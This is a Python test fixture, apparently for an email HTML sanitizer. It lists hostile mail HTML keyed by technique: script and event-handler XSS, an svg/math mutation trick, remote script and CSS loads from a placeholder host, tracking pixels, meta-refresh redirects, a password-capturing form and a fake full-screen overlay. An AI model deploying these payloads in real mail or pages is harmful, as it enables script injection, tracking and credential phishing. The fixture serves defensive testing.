"""HTML of mails that tries to run, to ask another machine, or to lead the reader away.  `{url}`: where to."""

HOSTILE_PAGES: dict[str, str] = {
    "script": "<script>document.title='ran';fetch('{url}/fetch')</script><script src='{url}/a.js'></script>",
    "event": "<p onclick='x()' onmouseover=\"location='{url}/e'\">a</p><body onload=\"location='{url}/b'\">",
    "svg": "<svg onload=\"location='{url}/s'\"><image href='{url}/i.png'/><use href='{url}/u.svg#a'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=\"location='{url}/m'\"></style></mglyph></table>",
    "picture": "<img src='{url}/p.png' srcset='{url}/q.png 2x' alt='図'><input type=image src='{url}/in.png'>",
    "background": "<table background='{url}/t.png'><tr><td style='background:url({url}/td.png)'>a</td></tr></table>",
    "css": "<style>@import url({url}/i.css); @font-face{{font-family:f;src:url({url}/f.woff)}}"
    " p{{background:url({url}/c.png);font-family:f}} p[title^=a]{{list-style:url({url}/a)}}</style><p title=ab>a</p>",
    "css escape": "<p style='background-color:u\\72l({url}/esc);content:image-set(\"{url}/set\" 1x)'>a</p>",
    "link": "<link rel=stylesheet href='{url}/l.css'><link rel=dns-prefetch href='{url}'>"
    "<link rel=preconnect href='{url}'><link rel=icon href='{url}/icon'>",
    "refresh": "<meta http-equiv=refresh content='0;url={url}/r'><base href='{url}/'><a href='next'>a</a>",
    "form": "<form action='{url}/form'><input name=password type=password autofocus><button>送信</button></form>",
    "frame": "<iframe src='{url}/f'></iframe><iframe srcdoc='<script>1</script>'></iframe><frameset><frame src='{url}'>",
    "plug-in": "<object data='{url}/o.swf'></object><embed src='{url}/e.swf'><applet code=a archive='{url}/a.jar'>",
    "media": "<video src='{url}/v.mp4' poster='{url}/v.png' autoplay></video><audio src='{url}/a.mp3' autoplay></audio>",
    "data": "<iframe src=\"data:text/html,<script>document.title='ran'</script>\"></iframe>"
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'><a href='data:text/html,x'>a</a>",
    "cid": "<img src='cid:logo@x'><a href='cid:page@x'>a</a><a href='javascript:document.title=1'>b</a>",
    "ping": "<a href='{url}/away' ping='{url}/ping' target=_top>a</a><area href='{url}/area'>",
    "ways out": "</body></html><!--><script>document.title='ran'</script>--><plaintext><noscript><p title=\"</noscript>"
    '<img src={url}/n>">',
    "style of ours": "<div style='position:fixed;inset:0;z-index:9'>偽の画面</div><div class='card main' id='main'>a</div>",
}
WORDS_THAT_STAY = {"form": "送信", "style of ours": "偽の画面"}
